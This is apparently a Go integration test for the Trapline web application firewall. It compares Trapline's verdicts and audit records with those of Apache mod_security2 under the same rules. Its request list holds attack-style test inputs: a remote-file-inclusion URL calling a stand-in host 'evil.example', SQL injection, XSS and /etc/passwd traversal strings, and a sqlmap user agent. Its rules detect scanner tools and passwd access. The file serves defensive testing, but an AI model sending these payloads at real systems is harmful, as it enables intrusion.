//go:build peers

// Package oracle sends the same bytes to Apache with mod_security2 and to
// Trapline, both with the same rules, and compares the verdicts and the audit
// records. Every tolerated difference is in tolerated, with its reason.
package oracle

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/trapline/trapline/audit"
	"github.com/trapline/trapline/test/binarytest"
	"github.com/trapline/trapline/test/peertest"
)

// engine is what both sides are told besides the rules: what the article does
// not say and mod_security2 needs. Ours needs none of it, but the records are to be equal.
const engine = `SecRuleEngine On
SecRequestBodyAccess On
SecAuditEngine On
SecAuditLogType Serial
SecAuditLogParts ABCFHKZ
SecDefaultAction "phase:1,log,auditlog,deny,status:403"
SecDefaultAction "phase:2,log,auditlog,deny,status:403"
SecAction "id:900,phase:1,nolog,pass,initcol:ip=%%{REMOTE_ADDR}"
Include %s
`

// seedRules are the article's, for the ports of the test.
const seedRules = `SecRule SERVER_PORT "^(%d)$" \
"id:'999004',phase:2,t:none,log,block,msg:'HoneyTrap Alert: Traffic Received on Fake Port.',\
setvar:ip.malicious_client=1"
SecRule &IP:MALICIOUS_CLIENT "@eq 1" \
"id:'999005',phase:2,t:none,log,block,msg:'HoneyTrap Alert: Known Malicious Client.'"
`

// wideRules use much of the language, so that texts and order of messages can be compared.
const wideRules = `SecRule ARGS "@rx (?i)union\s+select" "id:1001,phase:2,pass,log,capture,t:none,t:urlDecodeUni,msg:'sqli %%{TX.0}',logdata:'%%{MATCHED_VAR_NAME}=%%{MATCHED_VAR}',severity:CRITICAL,tag:'attack-sqli',tag:'x/y',rev:'2',ver:'T/1',maturity:'5',accuracy:'8'"
SecRule REQUEST_HEADERS:User-Agent "@pm nikto sqlmap nmap" "id:1002,phase:1,pass,log,t:lowercase,msg:'scanner',severity:'WARNING'"
SecRule &REQUEST_HEADERS:Host "@eq 0" "id:1003,phase:1,pass,log,msg:'no host'"
SecRule REQUEST_COOKIES:admin "@streq 1" "id:1004,phase:2,pass,log,msg:'admin cookie'"
SecRule REQUEST_METHOD "!@within GET HEAD POST OPTIONS" "id:1005,phase:1,pass,log,msg:'method'"
SecRule ARGS_POST:user "@beginsWith adm" "id:1006,phase:2,chain,pass,log,msg:'chained'"
  SecRule ARGS_POST:pass "@endsWith 123" "t:none,setvar:tx.weak=1"
SecRule TX:weak "@ge 1" "id:1007,phase:2,pass,log,msg:'weak password seen'"
SecRule REQUEST_URI "@contains /etc/passwd" "id:1008,phase:1,pass,log,t:none,t:normalisePath,multiMatch,msg:'passwd'"
SecRule ARGS_NAMES "@rx ^_" "id:1009,phase:2,pass,log,msg:'odd name'"
SecRule QUERY_STRING "@detectSQLi" "id:1010,phase:2,pass,log,msg:'libinjection'"
SecRule ARGS "@detectXSS" "id:1011,phase:2,pass,log,msg:'xss'"
SecRule REMOTE_ADDR "@ipMatch 127.0.9.0/24" "id:1012,phase:1,pass,log,msg:'from the ninth'"
SecRule ARGS|!ARGS:skipme "@validateByteRange 32-126" "id:1013,phase:2,pass,log,msg:'bytes'"
SecRule REQBODY_ERROR "!@eq 0" "id:1014,phase:2,deny,status:400,log,msg:'body'"
SecRule ARGS:deny "@streq 1" "id:1015,phase:2,deny,status:406,log,msg:'asked for it'"
SecRule ARGS:goto "@rx ." "id:1016,phase:2,redirect:http://www.example.org/%%{ARGS.goto},log,msg:'redirect'"
SecRule REQUEST_LINE "@rx HTTP/1.0$" "id:1017,phase:1,pass,nolog,setvar:tx.old=1"
`

// request is what both sides get.
type request struct{ name, bytes string }

func requests() []request {
	get := func(target string, headers ...string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: www.example1.com\r\n" + strings.Join(headers, "") + "Connection: close\r\n\r\n"
	}
	post := func(kind, body string, headers ...string) string {
		return fmt.Sprintf("POST /form HTTP/1.1\r\nHost: www.example1.com\r\nContent-Type: %s\r\nContent-Length: %d\r\n%sConnection: close\r\n\r\n%s",
			kind, len(body), strings.Join(headers, ""), body)
	}
	form := "application/x-www-form-urlencoded"
	return []request{
		{"plain", get("/")},
		{"rfi", get("/index.php?page=http://evil.example/shell.txt?")},
		{"scanner", get("/", "User-Agent: sqlmap/1.7.2#stable\r\n")},
		{"union select", get("/a?id=1+UNION+SELECT+password&x=2")},
		{"union select twice encoded", get("/a?id=1%2bunion%2520select")},
		{"libinjection", get("/a?id=1'%20or%20'1'='1")},
		{"xss", get("/a?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"traversal in an argument", get("/a?f=../../etc/passwd")},
		{"cookie", get("/", "Cookie: a=1; admin=1; b=2\r\n")},
		{"method", "PURGE / HTTP/1.1\r\nHost: www.example1.com\r\nConnection: close\r\n\r\n"},
		{"old protocol", "GET /old HTTP/1.0\r\n\r\n"},
		{"chain", post(form, "user=admin&pass=x123")},
		{"chain that misses", post(form, "user=admin&pass=x124")},
		{"odd names", get("/?_a=1&b=2&_c=3")},
		{"control bytes", get("/?a=%01%02&skipme=%03")},
		{"deny", get("/?deny=1&_a=1")},
		{"redirect", get("/?goto=there")},
		{"repeated argument", get("/?a=1&a=union%20select&A=union%20select")},
		{"JSON", post("application/json", `{"user":"adm","list":[1,"union select"]}`)},
		{"plus and percent", get("/?q=a+b%20c%2Bd%zz%")},
		{"empty values", get("/?a=&=b&&c")},
		{"utf-8", get("/?q=%C3%A4%E2%82%AC")},
		{"header order", get("/", "X-B: 2\r\nX-A: 1\r\nX-B: 3\r\n")},
		{"quotes in a header", get("/", "User-Agent: a\"b\\c nikto\r\n")},
		{"HEAD", "HEAD / HTTP/1.1\r\nHost: www.example1.com\r\nConnection: close\r\n\r\n"},
		{"multipart", multipart()},
	}
}

func multipart() string {
	body := "--B\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\nadmin\r\n" +
		"--B\r\nContent-Disposition: form-data; name=\"pass\"\r\n\r\n123\r\n" +
		"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--B--\r\n"
	return fmt.Sprintf("POST /up HTTP/1.1\r\nHost: www.example1.com\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
}

// tolerated are the differences that may be, each with its reason; what they match is removed on both sides before comparing.
var tolerated = []struct {
	re     *regexp.Regexp
	reason string
}{
	{regexp.MustCompile(` \[line "\d+"\]`), "Apache counts a continued directive at its last line; ours is the first, where its reader looks"},
	{regexp.MustCompile(` \[hostname "[^"]*"\] \[uri "[^"]*"\] \[unique_id "[^"]*"\]`), "mod_security2 adds these to the web server's error log, not to the record"},
}

func TestSeedRules(t *testing.T) { compare(t, seedRules) }
func TestWideRules(t *testing.T) {
	compare(t, "SecRule SERVER_PORT \"^%d$\" \"id:1,phase:1,nolog,pass\"\n"+wideRules)
}
func TestCRSMatches(t *testing.T) { compareCRS(t) }

// compare runs both with the rules and reports every request whose verdict or record differs.
func compare(t *testing.T, rules string) {
	ours, theirs := both(t, rules)
	for _, q := range requests() {
		a, b := theirs(q), ours(q)
		if a.status != b.status {
			t.Errorf("%s: Apache answers %s, Trapline %s", q.name, a.status, b.status)
		}
		if a.record == nil || b.record == nil {
			t.Errorf("%s: records: Apache %v, Trapline %v", q.name, a.record != nil, b.record != nil)
			continue
		}
		for _, d := range differences(a.record, b.record) {
			t.Errorf("%s: %s", q.name, d)
		}
	}
}

// answer is what one side did with a request.
type answer struct {
	status string
	record *audit.Record
}

type asker func(request) answer

// both starts Apache and Trapline with the same rules.
func both(t *testing.T, rules string) (ours, theirs asker) {
	t.Helper()
	ports := peertest.Ports(t, 3)
	dir := t.TempDir()
	_ = os.Chmod(dir, 0o755)
	apacheRules, ourRules := filepath.Join(dir, "apache.rules"), filepath.Join(dir, "ours.rules")
	// Equal lengths and line numbers: only the port differs.
	write(t, apacheRules, fmt.Sprintf(rules, ports[0]))
	write(t, ourRules, fmt.Sprintf(rules, ports[1]))

	apache := peertest.StartApache(t, fmt.Sprintf("Listen 127.0.0.1:%d\nSecDataDir {{dir}}/data\nSecAuditLog {{dir}}/audit/audit.log\n"+engine, ports[0], readable(t, apacheRules)),
		fmt.Sprintf("127.0.0.1:%d", ports[0]))

	log := filepath.Join(dir, "ours.log")
	conf := filepath.Join(dir, "trapline.conf")
	write(t, conf, fmt.Sprintf("Listen 127.0.0.1:%d\nTrapConsole 127.0.0.1:%d\n<VirtualHost *:%d>\nServerName localhost\nTrapHost On\nTrapTagConnect Off\nDocumentRoot %s\n</VirtualHost>\nSecAuditLog %s\n"+engine,
		ports[1], ports[2], ports[1], filepath.Join(apache.Dir, "htdocs"), log, ourRules))
	p := binarytest.Start(t, binarytest.Build(t), "run", "-c", conf, "--data", filepath.Join(dir, "data"))
	peertest.Listening(t, fmt.Sprintf("127.0.0.1:%d", ports[1]))
	_ = p
	return ask(t, ports[1], log, ourRules), ask(t, ports[0], filepath.Join(apache.Dir, "audit", "audit.log"), apacheRules)
}

// ask sends a request from an address of its own and reads the record that it left in the log.
func ask(t *testing.T, port int, log, rules string) asker {
	n := 0
	return func(q request) answer {
		n++
		before := len(entries(t, log))
		dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 8, byte(n))}}
		conn, err := dialer.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := io.WriteString(conn, q.bytes); err != nil {
			t.Fatal(err)
		}
		text, _ := io.ReadAll(conn)
		line, _, _ := strings.Cut(string(text), "\r\n")
		a := answer{}
		if f := strings.Fields(line); len(f) > 1 {
			a.status = f[1]
		}
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			if list := entries(t, log); len(list) > before {
				a.record = list[before]
				for i := range a.record.Matches {
					a.record.Matches[i].File = strings.ReplaceAll(a.record.Matches[i].File, rules, "RULES")
				}
				return a
			}
			time.Sleep(10 * time.Millisecond)
		}
		return a
	}
}

func entries(t *testing.T, path string) []*audit.Record {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		return nil
	}
	var list []*audit.Record
	s := audit.NewScanner(bytes.NewReader(text), 8<<20)
	for s.Scan() {
		if r, _ := s.Entry().Record(); r.Kind == audit.KindHTTP { // the bare connects of the start are records of ours only
			list = append(list, r)
		}
	}
	return list
}

// differences compares what the rules made of a request.
func differences(a, b *audit.Record) []string {
	var out []string
	diff := func(what string, x, y any) {
		if fmt.Sprint(x) != fmt.Sprint(y) {
			out = append(out, fmt.Sprintf("%s:\n  Apache   %v\n  Trapline %v", what, x, y))
		}
	}
	diff("request head", plainLines(a.RequestHead), plainLines(b.RequestHead))
	diff("request body", string(a.RequestBody), string(b.RequestBody))
	diff("action", actionText(a), actionText(b))
	am, bm := messages(a), messages(b)
	for len(am) > 0 || len(bm) > 0 {
		var x, y string
		if len(am) > 0 {
			x, am = am[0], am[1:]
		}
		if len(bm) > 0 {
			y, bm = bm[0], bm[1:]
		}
		diff("message", x, y)
	}
	return out
}

// plainLines tolerates that Apache writes the head anew: lines end in LF, and
// repeated headers are one line at the place of the first. Ours keeps the bytes as they came.
func plainLines(head []byte) string {
	var lines []string
	at := map[string]int{}
	for line := range strings.SplitSeq(strings.TrimSpace(strings.ReplaceAll(string(head), "\r\n", "\n")), "\n") {
		name, value, ok := strings.Cut(line, ": ")
		if i, seen := at[name]; ok && seen {
			lines[i] += ", " + value
			continue
		}
		at[name] = len(lines)
		lines = append(lines, line)
	}
	return strings.Join(lines, "\n")
}

func actionText(r *audit.Record) string {
	if r.Action == nil {
		return "none"
	}
	return fmt.Sprintf("%s in phase %d", "intercepted", r.Action.Phase)
}

var portText = regexp.MustCompile(`\^\(?\d+\)?\$`)

// messages writes the record's matches as mod_security2 does, without what is tolerated.
func messages(r *audit.Record) []string {
	var out []string
	for i := range r.Matches {
		text := string(audit.AppendMessage(nil, &r.Matches[i], r.Action))
		for _, d := range tolerated {
			text = d.re.ReplaceAllString(text, "")
		}
		out = append(out, portText.ReplaceAllString(text, "PORT"))
	}
	return out
}

// compareCRS compares which rules of Debian's CRS match, in detection mode.
func compareCRS(t *testing.T) {
	if _, err := os.Stat("/usr/share/modsecurity-crs/rules"); err != nil {
		t.Skip("PEER MISSING: modsecurity-crs is not installed; make test installs it")
	}
	rules := "SecRule SERVER_PORT \"^%d$\" \"id:1,phase:1,nolog,pass\"\nInclude /etc/modsecurity/crs/crs-setup.conf\nInclude /usr/share/modsecurity-crs/rules/*.conf\nSecRuleEngine DetectionOnly\n"
	ours, theirs := both(t, rules)
	for _, q := range requests() {
		a, b := theirs(q), ours(q)
		if a.record == nil || b.record == nil {
			t.Errorf("%s: records: Apache %v, Trapline %v", q.name, a.record != nil, b.record != nil)
			continue
		}
		// mod_security2's utf8toUnicode always claims to have changed the value, so that rules with
		// multiMatch fire twice on one and the same value there (930110): repetitions are tolerated.
		if x, y := slices.Compact(ids(a.record)), slices.Compact(ids(b.record)); !slices.Equal(x, y) {
			t.Errorf("%s: rules that matched:\n  Apache   %v\n  Trapline %v", q.name, x, y)
		}
	}
}

func ids(r *audit.Record) []int {
	var out []int
	for _, m := range r.Matches {
		out = append(out, m.ID)
	}
	return out
}

// readable makes the folders of a file readable for Apache's worker user.
func readable(t *testing.T, path string) string {
	t.Helper()
	for d := filepath.Dir(path); len(d) > len(os.TempDir()); d = filepath.Dir(d) {
		_ = os.Chmod(d, 0o755)
	}
	return path
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}
